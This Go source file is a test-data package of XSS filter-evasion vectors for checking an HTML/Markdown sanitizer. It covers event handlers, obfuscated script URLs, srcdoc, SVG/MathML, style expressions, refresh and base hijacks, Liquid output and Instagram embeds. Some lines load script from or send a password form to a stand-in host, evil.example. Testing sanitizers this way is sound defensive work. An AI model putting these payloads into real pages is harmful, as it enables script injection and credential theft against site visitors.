// Package xss holds active-content vectors for the tests of the other
// packages: fragments of page bodies, in the manner of the XSS filter
// evasion cheat sheets, that try to make a page run script (event
// handlers, script URLs with entity, whitespace and case obfuscation,
// srcdoc, SVG and MathML, style expressions, refreshes, <base>, form
// actions, plugins, Liquid that outputs markup, Instagram embeds). It
// holds data only.
package xss

import (
	"fmt"
	"strings"
)

// A Vector is one fragment of a page body and its name.
type Vector struct {
	Name string
	Body string
}

// schemes are spellings of script URLs: case, whitespace, control
// characters and character references a browser reads through.
var schemes = []struct{ name, url string }{
	{"plain", "javascript:alert(1)"},
	{"case", "JaVaScRiPt:alert(1)"},
	{"lead-space", " javascript:alert(1)"},
	{"tab", "java\tscript:alert(1)"},
	{"newline", "java\nscript:alert(1)"},
	{"entity-tab", "java&#x09;script:alert(1)"},
	{"entity-decimal", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"},
	{"entity-hex-padded", "&#x0000006A;avascript:alert(1)"},
	{"entity-colon", "javascript&colon;alert(1)"},
	{"entity-newline", "jav&#x0A;ascript:alert(1)"},
	{"control-char", "\x01javascript:alert(1)"},
	{"vbscript", "vbscript:msgbox(1)"},
	{"vbscript-case", "VbScRiPt:msgbox(1)"},
	{"data-html", "data:text/html,<script>alert(1)</script>"},
	{"data-base64", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="},
	{"data-case", "DATA:text/html,<script>alert(1)</script>"},
}

// All returns the vectors, each with a name of its own.
func All() []Vector {
	var v []Vector
	add := func(name, body string) { v = append(v, Vector{name, body}) }

	// Event handlers on the elements that fire them without a click, and
	// spellings of the attribute.
	handlers := []struct{ name, html string }{
		{"img-onerror", `<img src="x" onerror="alert(1)">`},
		{"img-onerror-unquoted", `<img src=x onerror=alert(1)>`},
		{"img-onerror-case", `<IMG SRC=x ONERROR="alert(1)">`},
		{"img-onerror-slash", `<img/src=x/onerror=alert(1)>`},
		{"img-onerror-spaces", `<img src=x onerror  =  "alert(1)">`},
		{"img-onerror-entity", `<img src=x onerror="&#97;lert(1)">`},
		{"img-onload", `<img src="/images/a.png" onload="alert(1)">`},
		{"svg-onload", `<svg onload="alert(1)"></svg>`},
		{"svg-onload-slash", `<svg/onload=alert(1)>`},
		{"body-onload", `<body onload="alert(1)">`},
		{"div-onmouseover", `<div onmouseover="alert(1)">hover</div>`},
		{"p-onclick", `<p onclick="alert(1)">click</p>`},
		{"a-onclick", `<a href="/x" onclick="alert(1)">x</a>`},
		{"a-onfocus-autofocus", `<a href="/x" onfocus="alert(1)" autofocus>x</a>`},
		{"input-onfocus", `<input autofocus onfocus="alert(1)">`},
		{"details-ontoggle", `<details open ontoggle="alert(1)"><summary>s</summary>x</details>`},
		{"video-onerror", `<video src="x" onerror="alert(1)"></video>`},
		{"audio-onerror", `<audio src="x" onerror="alert(1)"></audio>`},
		{"iframe-onload", `<iframe src="https://www.youtube.com/embed/x" onload="alert(1)"></iframe>`},
		{"marquee-onstart", `<marquee onstart="alert(1)">m</marquee>`},
		{"table-onmouseover", `<table onmouseover="alert(1)"><tr><td>c</td></tr></table>`},
		{"td-onclick", `<table><tr><td onclick="alert(1)">c</td></tr></table>`},
		{"h2-onanimationstart", `<h2 style="animation: x" onanimationstart="alert(1)">H</h2>`},
		{"span-onpointerenter", `<span onpointerenter="alert(1)">s</span>`},
		{"strong-onclick", `<strong onclick="alert(1)">b</strong>`},
		{"li-onclick", `<ul><li onclick="alert(1)">i</li></ul>`},
		{"blockquote-onclick", `<blockquote onclick="alert(1)"><p>q</p></blockquote>`},
		{"select-onfocus", `<select autofocus onfocus="alert(1)"></select>`},
		{"textarea-onfocus", `<textarea autofocus onfocus="alert(1)"></textarea>`},
		{"form-onsubmit", `<form onsubmit="alert(1)"><button>go</button></form>`},
		{"object-onerror", `<object data="x" onerror="alert(1)"></object>`},
		{"image-wrapper-onerror", `<div class="isomer-image-wrapper"><img src="/images/a.png" onerror="alert(1)"></div>`},
		{"card-onclick", `<div class="isomer-card-grid"><a class="isomer-card" href="/x" onclick="alert(1)"><div class="isomer-card-body"><h4 class="isomer-card-title">t</h4></div></a></div>`},
	}
	for _, h := range handlers {
		add("handler/"+h.name, h.html)
	}

	// Script URLs in every place that follows or loads one.
	for _, s := range schemes {
		add("url/a-href/"+s.name, `<a href="`+s.url+`">x</a>`)
		add("url/markdown-link/"+s.name, `[x](`+strings.ReplaceAll(s.url, "\n", "")+`)`)
	}
	for _, s := range schemes[:6] {
		add("url/img-src/"+s.name, `<img src="`+s.url+`">`)
		add("url/iframe-src/"+s.name, `<iframe src="`+s.url+`"></iframe>`)
		add("url/markdown-image/"+s.name, `![x](`+strings.ReplaceAll(s.url, "\n", "")+`)`)
	}
	more := []struct{ name, html string }{
		{"autolink", `<javascript:alert(1)>`},
		{"reference-link", "[x][r]\n\n[r]: javascript:alert(1)"},
		{"reference-image", "![x][r]\n\n[r]: javascript:alert(1)"},
		{"markdown-link-angle", `[x](<javascript:alert(1)>)`},
		{"markdown-link-title", `[x](javascript:alert(1) "t")`},
		{"ial-href", "[x](/ok){: href=\"javascript:alert(1)\"}"},
		{"ial-onclick", "[x](/ok){: onclick=\"alert(1)\"}"},
		{"block-ial-onclick", "Para\n{: onclick=\"alert(1)\"}"},
		{"form-action", `<form action="javascript:alert(1)"><button>go</button></form>`},
		{"button-formaction", `<form><button formaction="javascript:alert(1)">go</button></form>`},
		{"input-formaction", `<form><input type="submit" formaction="javascript:alert(1)"></form>`},
		{"object-data", `<object data="javascript:alert(1)"></object>`},
		{"object-data-html", `<object data="data:text/html,<script>alert(1)</script>"></object>`},
		{"embed-src", `<embed src="javascript:alert(1)">`},
		{"embed-svg", `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`},
		{"area-href", `<map name="m"><area href="javascript:alert(1)" shape="rect" coords="0,0,1,1"></map>`},
		{"svg-a-xlink", `<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>`},
		{"svg-a-href", `<svg><a href="javascript:alert(1)"><text y="20">x</text></a></svg>`},
		{"math-href", `<math href="javascript:alert(1)">x</math>`},
		{"math-maction", `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`},
		{"isindex-action", `<isindex action="javascript:alert(1)" type="image">`},
		{"table-background", `<table background="javascript:alert(1)"><tr><td>c</td></tr></table>`},
		{"video-poster", `<video poster="javascript:alert(1)"></video>`},
		{"card-href", `<div class="isomer-card-grid"><a class="isomer-card" href="javascript:alert(1)"><div class="isomer-card-body"><h4 class="isomer-card-title">t</h4></div></a></div>`},
		{"image-wrapper-href", `<a class="isomer-image-wrapper" href="javascript:alert(1)"><img src="/images/a.png"></a>`},
		{"blockquote-cite", `<blockquote cite="javascript:alert(1)"><p>q</p></blockquote>`},
		{"img-srcset", `<img src="/images/a.png" srcset="javascript:alert(1) 1x">`},
		{"link-href-js", `<link rel="stylesheet" href="javascript:alert(1)">`},
	}
	for _, m := range more {
		add("url/"+m.name, m.html)
	}

	// Documents inside documents.
	for i, s := range []string{
		`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
		`<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>`,
		`<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>alert(1)</script>"></iframe>`,
		`<div class="iframe-wrapper"><iframe srcdoc="<svg onload=alert(1)>"></iframe></div>`,
		`<IFRAME SRCDOC="<script>alert(1)</script>"></IFRAME>`,
		`<frameset><frame src="javascript:alert(1)"></frameset>`,
	} {
		add(fmt.Sprintf("srcdoc/%d", i+1), s)
	}

	// Scripts, and the SVG and MathML ways to one.
	for i, s := range []string{
		`<script>alert(1)</script>`,
		`<SCRIPT>alert(1)</SCRIPT>`,
		`<script src="https://evil.example/x.js"></script>`,
		`<script src="//www.instagram.com/embed.js">alert(1)</script>`,
		`<script type="text/javascript">alert(1)</script>`,
		`<scr<script>ipt>alert(1)</script>`,
		`<p>text <script>alert(1)</script> more</p>`,
		`<svg><script>alert(1)</script></svg>`,
		`<svg><script href="data:,alert(1)"></script></svg>`,
		`<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"></animate></svg>`,
		`<svg><set attributeName="href" to="javascript:alert(1)"></set></svg>`,
		`<svg><a><animate attributeName="href" values="javascript:alert(1)"></animate><text y="20">x</text></a></svg>`,
		`<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`,
		`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"></use></svg>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
		`<template><script>alert(1)</script></template>`,
		`<xmp><img src=x onerror=alert(1)></xmp>`,
		`<!--<img src=x onerror=alert(1)>-->`,
		`<![CDATA[<img src=x onerror=alert(1)>]]>`,
		`<pre><code><script>alert(1)</script></code></pre>`,
	} {
		add(fmt.Sprintf("script/%d", i+1), s)
	}

	// Styles that run script.
	for i, s := range []string{
		`<div style="width: expression(alert(1))">x</div>`,
		`<div style="width: exp/**/ression(alert(1))">x</div>`,
		`<div style="width: e\xpression(alert(1))">x</div>`,
		`<div style="background: url(javascript:alert(1))">x</div>`,
		`<div style="background: url('JaVaScRiPt:alert(1)')">x</div>`,
		`<div style="behavior: url(x.htc)">x</div>`,
		`<div style="-moz-binding: url(x.xml#xss)">x</div>`,
		`<img src="/images/a.png" style="width: expression(alert(1))">`,
		`<iframe src="https://www.youtube.com/embed/x" style="background: url(javascript:alert(1))"></iframe>`,
		`<span style="color: red; background-image: url(&quot;javascript:alert(1)&quot;)">x</span>`,
		`<style>body { background: url(javascript:alert(1)) }</style>`,
		`<style>@import 'javascript:alert(1)';</style>`,
		`<p><style>p { -moz-binding: url(x) }</style>x</p>`,
	} {
		add(fmt.Sprintf("style/%d", i+1), s)
	}

	// Elements that take over the page.
	for i, s := range []string{
		`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
		`<meta http-equiv="refresh" content="0; url=https://evil.example/">`,
		`<META HTTP-EQUIV="Refresh" CONTENT="0;URL=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
		`<base href="javascript:alert(1)//">`,
		`<base href="https://evil.example/">`,
		`<link rel="import" href="https://evil.example/x.html">`,
		`<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>`,
		`<embed src="https://evil.example/x.swf" allowscriptaccess="always">`,
		`<applet code="X.class"></applet>`,
		`<form action="https://evil.example/"><input name="password" type="password"></form>`,
		`<isindex type="image" src="1" onerror="alert(1)">`,
		`<portal src="https://evil.example/"></portal>`,
	} {
		add(fmt.Sprintf("takeover/%d", i+1), s)
	}

	// Liquid that outputs markup, and text that only looks like it.
	for i, s := range []string{
		`<p>{{ "&lt;script&gt;alert(2)&lt;/script&gt;" }}</p>`,
		`<p>{{ '&lt;img src=x onerror=alert(1)&gt;' }}</p>`,
		`<p>{% assign x = "&lt;img src=x onerror=alert(1)&gt;" %}{{ x }}</p>`,
		`<p>{% capture x %}&lt;script&gt;alert(1)&lt;/script&gt;{% endcapture %}{{ x }}</p>`,
		`<p>{{ "&lt;svg onload=alert(1)&gt;" | strip }}</p>`,
		`<p>{{ "[x](javascript:alert(1))" }}</p>`,
		`<p><strong>{{ "&lt;script&gt;alert(1)&lt;/script&gt;" }}</strong></p>`,
		`<p><u>{{ "&lt;img src=x onerror=alert(1)&gt;" }}</u></p>`,
		`<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>`,
		`<p>&lt;img src=x onerror=alert(1)&gt;</p>`,
		`<p>[x](javascript:alert(1))</p>`,
		`<p>&lt;a href="javascript:alert(1)"&gt;x&lt;/a&gt;</p>`,
		`<p>&lt;javascript:alert(1)&gt;</p>`,
		`<pre><code>{{ "&lt;script&gt;alert(1)&lt;/script&gt;" }}</code></pre>`,
		`<p><a href="{{ &quot;javascript:alert(1)&quot; }}">x</a></p>`,
		`<p><a href="{{ 'java' }}script:alert(1)">x</a></p>`,
		`<p><a href="{{ &quot;JavaScript:alert(1)&quot; | strip }}">x</a></p>`,
		`[x]({{ "javascript:alert(1)" }})`,
		`![x]({{ 'javascript:alert(1)' }})`,
		`<p><a href="{{ site.baseurl }}/ok/">a safe link</a></p>`,
		`<p>{{ '&lt;img src="x" onerror="alert(1)"&gt;' }}</p>`,
		`<p>{% assign x = '&lt;img src="x" onerror="alert(1)"&gt;' %}{{ x }}</p>`,
		`<p>{{ "&lt;a href='javascript:alert(1)'&gt;x&lt;/a&gt;" }}</p>`,
	} {
		add(fmt.Sprintf("liquid/%d", i+1), s)
	}

	// Instagram embeds, which the document keeps as HTML.
	const igOpen = `<div class="instagram-wrapper"><blockquote class="instagram-media" data-instgrm-permalink="https://www.instagram.com/p/abc/" data-instgrm-version="14"`
	const igClose = `<p><a href="https://www.instagram.com/p/abc/">caption</a></p></blockquote><script async="true" src="//www.instagram.com/embed.js"></script></div>`
	for i, s := range []string{
		igOpen + ` onmouseover="alert(1)">` + igClose,
		igOpen + `><img src=x onerror=alert(1)>` + igClose,
		igOpen + `><script>alert(1)</script>` + igClose,
		igOpen + `><a href="javascript:alert(1)">x</a>` + igClose,
		igOpen + `><a href=" JaVa&#x09;ScRiPt:alert(1)">x</a>` + igClose,
		igOpen + `><iframe srcdoc="<script>alert(1)</script>"></iframe>` + igClose,
		igOpen + `><div style="width: expression(alert(1))">x</div>` + igClose,
		igOpen + `><svg onload=alert(1)><path d="M0 0"></path></svg>` + igClose,
		igOpen + `><svg><set attributeName="href" to="javascript:alert(1)"></set></svg>` + igClose,
		igOpen + `><form action="javascript:alert(1)"><button>b</button></form>` + igClose,
		igOpen + `><object data="javascript:alert(1)"></object>` + igClose,
		igOpen + `><meta http-equiv="refresh" content="0;url=javascript:alert(1)">` + igClose,
		igOpen + `><base href="javascript:alert(1)//">` + igClose,
		igOpen + `><a href="data:text/html,<script>alert(1)</script>">x</a>` + igClose,
		`<div class="instagram-wrapper"><blockquote class="instagram-media" data-instgrm-permalink="javascript:alert(1)"><p>x</p></blockquote><script async="true" src="//www.instagram.com/embed.js"></script></div>`,
	} {
		add(fmt.Sprintf("instagram/%d", i+1), s)
	}
	return v
}
